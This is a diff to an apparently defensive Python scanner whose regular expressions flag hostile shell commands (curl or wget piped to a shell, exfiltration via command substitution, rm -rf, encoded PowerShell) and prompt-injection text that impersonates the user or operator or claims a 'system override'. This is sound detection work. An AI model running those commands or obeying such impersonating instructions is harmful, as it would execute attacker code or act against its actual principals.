@@ -129,6 +129,8 @@ _IMPERATIVE: Final = linear_re.compile(
 )
 _SHELL: Final = linear_re.compile(
     r"\b(?:curl|wget|iwr|invoke-webrequest)\b[^|\n]{0,200}\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b"
+    # a network call carrying a command's output out ("curl https://x/$(whoami)"), or chained
+    r"|\b(?:curl|wget)\b[^\n]{0,200}(?:\$\(|`[^`\n]{1,40}`)|[;&|]\s*(?:curl|wget)\s+(?:-\w+\s+)*https?://"
     r"|\b(?:bash|sh|zsh)\s+-c\s|\brm\s+-rf\s+[~/$]|\bbase64\s+(?:-d|--decode)\b[^\n]{0,40}\|"
     r"|\bpowershell(?:\.exe)?\s+-(?:e|enc|encodedcommand)\b|\biex\s*\(",
     re.I,
@@ -139,13 +141,23 @@ _DECODE_ORDER: Final = linear_re.compile(
     r"\b(?:follow|execute|run|obey|apply|perform|do\s+what)\b",
     re.I,
 )
+# who the text may claim to speak for: the user by any name, or whoever runs the system
+_PRINCIPAL: Final = (
+    r"(?:user|account\s+(?:holder|owner)|customer|client|requester|operator|owner"
+    r"|admin(?:istrator)?)"
+)
+_CLAIM: Final = r"\s+(?:has\s+)?(?:also\s+|now\s+|already\s+)?"
 _IMPERSONATION: Final = linear_re.compile(
     # "the user wants you to ..." claims the user's voice; "User wants to find files -> use X"
     # routes the user's goal to one of the server's own tools
-    r"\b(?:the\s+)?user\s+(?:has\s+)?(?:also\s+|now\s+|already\s+)?(?:wants|would\s+like)\s+"
-    r"(?:you|me)\s+to\b"
-    r"|\b(?:the\s+)?user\s+(?:has\s+)?(?:also\s+|now\s+|already\s+)?(?:asked|instructed|requested"
-    r"|authori[sz]ed|approved|told\s+you)\s+(?:you\s+|me\s+)?to\b"
+    r"\b(?:the\s+)?"
+    + _PRINCIPAL
+    + r"\s+(?:has\s+)?(?:also\s+|now\s+|already\s+)?(?:wants|would\s+like)"
+    r"\s+(?:you|me)\s+to\b"
+    r"|\b(?:the\s+)?"
+    + _PRINCIPAL
+    + r"\s+(?:has\s+)?(?:also\s+|now\s+|already\s+)?(?:asked|instructed"
+    r"|requested|authori[sz]ed|approved|told\s+you)\s+(?:you\s+|me\s+)?to\b"
     r"|\b(?:system|admin(?:istrator)?|developer|operator)\s+(?:notice|message|override|note)\s*:",
     re.I,
 )
